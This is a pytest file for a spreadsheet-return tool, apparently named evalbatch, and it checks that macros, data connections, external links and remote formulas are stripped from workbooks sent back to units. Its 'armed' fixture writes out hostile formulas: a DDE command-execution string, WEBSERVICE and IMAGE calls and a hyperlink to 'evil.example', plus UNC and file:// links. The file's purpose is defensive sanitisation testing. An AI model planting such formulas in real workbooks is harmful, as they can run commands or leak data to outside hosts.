"""What acts by itself in a unit's workbook: it does not travel in what goes back, and that is said."""

import io
import re
import zipfile
from pathlib import Path

import pytest
from many_units import unit_name
from openpyxl import load_workbook
from robustness.attacked import FORM, attacked, changed, evalbatch, results

from evalbatch.model import Finding
from evalbatch.reports.returned.returned_copy import write_returned_copy

pytestmark = pytest.mark.command

OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
MACRO_TYPE = b"application/vnd.ms-excel.sheet.macroEnabled.main+xml"
PLAIN_TYPE = b"application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"
FINDING = (Finding("M02", "must-fix", "执行率不符。", "请填 97.21%。", FORM, "H7", "95%", "97.21%"),)


def parts_of(data: bytes) -> dict[str, bytes]:
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        return {name: archive.read(name) for name in archive.namelist()}


def packed(parts: dict[str, bytes]) -> bytes:
    made = io.BytesIO()
    with zipfile.ZipFile(made, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in parts.items():
            archive.writestr(name, data)
    return made.getvalue()


def armed() -> bytes:
    """A workbook with a macro, a connection that refreshes on load, a link to another one, and remote formulas."""
    formulas = {
        "N1": '=WEBSERVICE("http://evil.example/x")',
        "N2": '=_xlfn.IMAGE("http://evil.example/x.png")',
        "N3": "=[1]别处!A1",
        "N4": "='\\\\evil\\share\\[簿.xlsx]表'!A1",
        "N5": "=cmd|'/c calc'!A0",
        "N6": '=HYPERLINK("http://evil.example","点")',
        "N7": "=1+1",
        "N8": '=HYPERLINK("#A1","本簿")',
        "D7": None,
    }
    parts = parts_of(changed(formulas))
    parts["xl/vbaProject.bin"] = b"macro"
    parts["xl/connections.xml"] = b'<connections><connection id="1" refreshOnLoad="1"/></connections>'
    parts["xl/externalLinks/externalLink1.xml"] = b'<externalLink><externalBook r:id="rId1"/></externalLink>'
    parts["xl/externalLinks/_rels/externalLink1.xml.rels"] = (
        f'<Relationships><Relationship Id="rId1" Type="{OFFICE}/externalLinkPath" Target="file://evil/x.xlsx" '
        'TargetMode="External"/></Relationships>'
    ).encode()
    related = "".join(
        f'<Relationship Id="rIdX{number}" Type="{kind}" Target="{target}"/>'
        for number, (kind, target) in enumerate(
            (
                ("http://schemas.microsoft.com/office/2006/relationships/vbaProject", "/xl/vbaProject.bin"),
                (f"{OFFICE}/connections", "/xl/connections.xml"),
                (f"{OFFICE}/externalLink", "/xl/externalLinks/externalLink1.xml"),
            )
        )
    ).encode()
    rels = "xl/_rels/workbook.xml.rels"
    parts[rels] = parts[rels].replace(b"</Relationships>", related + b"</Relationships>")
    parts["[Content_Types].xml"] = parts["[Content_Types].xml"].replace(PLAIN_TYPE, MACRO_TYPE)
    references = b'<externalReferences><externalReference xmlns:r="%s" r:id="rIdX2"/></externalReferences>'
    parts["xl/workbook.xml"] = parts["xl/workbook.xml"].replace(
        b"</sheets>", b"</sheets>" + references % OFFICE.encode()
    )
    return packed(parts)


def assert_inert(data: bytes) -> None:
    parts = parts_of(data)
    names = " ".join(parts).lower()
    for gone in ("vbaproject", "connections", "externallink"):
        assert gone not in names
    everything = b"".join(parts.values())
    for gone in (b"WEBSERVICE", b"IMAGE(", b"evil", b"calc'!", b"macroEnabled", b"externalReference", b"[1]"):
        assert gone not in everything, gone
    formulas = re.findall(rb"<f>([^<]*)</f>", b"".join(parts[n] for n in parts if "/worksheets/" in n))
    assert b"1+1" in formulas
    load_workbook(io.BytesIO(data))


def test_run__a_workbook_that_acts__comes_back_inert_and_both_say_so(tmp_path: Path) -> None:
    """By the command line, from an .xlsm: the copy is an .xlsx in which nothing calls anything."""
    campaign = attacked(tmp_path, {f"{unit_name(1)}.xlsm": armed()}, units=1)
    workbook = campaign / "units.xlsx"
    book = load_workbook(workbook)
    book.active.append(["00001", unit_name(1)])
    book.save(workbook)
    evalbatch("run", campaign).assert_in_words(0)
    (file,) = (file for file in results(campaign)["files"] if file["path"].endswith(".xlsm"))
    assert file["returned"].endswith(".xlsx")
    (f10,) = (finding for finding in file["findings"] if finding["code"] == "F10")
    assert "退回件" in f10["message"]
    data = (campaign / "output" / file["returned"]).read_bytes()
    assert_inert(data)
    front = load_workbook(io.BytesIO(data)).worksheets[0]
    said = "".join(str(cell.value) for row in front.iter_rows(max_row=6) for cell in row)
    assert all(word in said for word in ("宏", "取外部数据的公式", "数据连接", "外部链接"))


def test_run__settings_that_keep_what_acts__the_copy_has_it_and_an_ending_for_macros(tmp_path: Path) -> None:
    """A bureau whose own forms bear macros says so in its settings; the next run makes the copies anew."""
    campaign = attacked(tmp_path, {f"{unit_name(1)}.xlsm": armed()}, units=1)
    book = load_workbook(campaign / "units.xlsx")
    book.active.append(["00001", unit_name(1)])
    book.save(campaign / "units.xlsx")
    for keep in (False, True):
        text = (campaign / "evalbatch.toml").read_text(encoding="utf-8")
        added = "[campaign]\nkeep_active = true" if keep else "[campaign]"
        (campaign / "evalbatch.toml").write_text(text.replace("[campaign]", added), encoding="utf-8")
        evalbatch("run", campaign).assert_in_words(0)
        (file,) = (file for file in results(campaign)["files"] if file["path"].endswith(".xlsm"))
        parts = parts_of((campaign / "output" / file["returned"]).read_bytes())
        assert file["returned"].endswith(".xlsm" if keep else ".xlsx")
        assert ("xl/vbaProject.bin" in parts) is keep
        assert ("xl/connections.xml" in parts) is keep


@pytest.mark.parametrize(
    "formula",
    ["=SUM(表1[2023])", "=IF(A1>0,表[[#This Row],[2023]],0)", '=A1&"|"&B1', '=IF(A1="http://a","是","否")', "=A1"],
)
def test_copy__formulas_that_stay_at_home__are_left_alone(tmp_path: Path, formula: str) -> None:
    """Columns of tables named by a year look like numbers of other workbooks."""
    write_returned_copy(changed({"N1": formula}), FINDING, tmp_path / "退回.xlsx")
    assert load_workbook(tmp_path / "退回.xlsx")[FORM]["N1"].value == formula


def test_copy__an_old_macro_sheet__only_the_list_goes_back(tmp_path: Path) -> None:
    """It can't be taken out without damage to the workbook."""
    parts = parts_of(changed({}))
    parts["xl/macrosheets/sheet1.xml"] = b"<macrosheet/>"
    rels = "xl/_rels/workbook.xml.rels"
    kind = "http://schemas.microsoft.com/office/2006/relationships/xlMacrosheet"
    more = f'<Relationship Id="rIdM" Type="{kind}" Target="/xl/macrosheets/sheet1.xml"/></Relationships>'
    parts[rels] = parts[rels].replace(b"</Relationships>", more.encode())
    write_returned_copy(packed(parts), FINDING, tmp_path / "退回.xlsx")
    assert load_workbook(tmp_path / "退回.xlsx").sheetnames == ["需更正事项"]
